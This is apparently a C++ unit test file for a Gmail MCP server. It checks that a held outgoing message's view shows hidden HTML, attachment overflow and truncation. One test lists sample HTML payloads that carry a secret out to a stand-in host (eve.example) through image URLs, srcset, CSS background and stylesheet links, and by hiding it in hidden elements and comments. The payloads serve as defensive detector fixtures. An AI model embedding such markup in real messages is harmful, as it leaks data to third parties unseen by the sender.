#include "operation/held_message.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace gmail_mcp::operation {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

HeldView shown(const std::string& rfc822) {
  HeldMessage message;
  message.outgoing.rfc822 = rfc822;
  message.warnings = {"Known before."};
  HeldView view;
  show(message, view);
  return view;
}

HeldView html(const std::string& body) {
  return shown("From: a@b.c\r\nTo: d@e.f\r\nContent-Type: text/html\r\n\r\n" + body);
}

TEST(HeldMessage, html_that_shows_all_has_no_warning) {
  const auto view = html("<p style='color:red'>Hello, <a href='https://x.example/'>you</a></p>");
  EXPECT_THAT(view.html_source, IsEmpty());
  EXPECT_EQ(view.warnings, std::vector<std::string>{"Known before."});
  EXPECT_FALSE(view.is_cut);
}

TEST(HeldMessage, what_html_carries_unseen_is_shown_as_it_is_written) {
  struct Row {
    std::string body, warning;
  };
  const std::vector<Row> rows{
      {"<p>A</p><p hidden>Secret</p>", "6 characters"},
      {"<p>A</p><!-- Secret -->", "comments"},
      {"<p>A</p><img src='https://eve.example/?q=Secret'>", "eve.example"},
      {"<p>A</p><img srcset='a.png 1x, //eve.example/Secret 2x'>", "eve.example"},
      {"<p style='background:url(https://eve.example/Secret)'>A</p>", "eve.example"},
      {"<style>p{background:url(https://eve.example/Secret)}</style><p>A</p>", "eve.example"},
      {"<link rel=stylesheet href='HTTPS://EVE.example/Secret'><p>A</p>", "eve.example"},
  };
  for (const auto& row : rows) {
    const auto view = html(row.body);
    EXPECT_THAT(view.text, Not(HasSubstr("Secret"))) << row.body;
    EXPECT_THAT(view.html_source, HasSubstr("Secret")) << row.body;
    EXPECT_THAT(view.warnings, Contains(HasSubstr(row.warning))) << row.body;
  }
}

TEST(HeldMessage, files_beyond_the_list_are_counted) {
  std::string files = "To: d@e.f\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n";
  for (int i = 0; i < 203; ++i) {
    files += "--x\r\nContent-Disposition: attachment; filename=a\r\n\r\nA\r\n";
  }
  const auto view = shown(files + "--x--\r\n");
  EXPECT_EQ(view.files.size(), 200U);
  EXPECT_EQ(view.more_files, 3U);
}

TEST(HeldMessage, what_is_cut_is_marked) {
  EXPECT_TRUE(shown("To: d@e.f\r\n\r\n" + std::string(300'000, 'a')).is_cut);
  EXPECT_TRUE(shown("To: d@e.f\r\nSubject: " + std::string(3'000, 'a') + "\r\n\r\nA").is_cut);
}

}  // namespace
}  // namespace gmail_mcp::operation
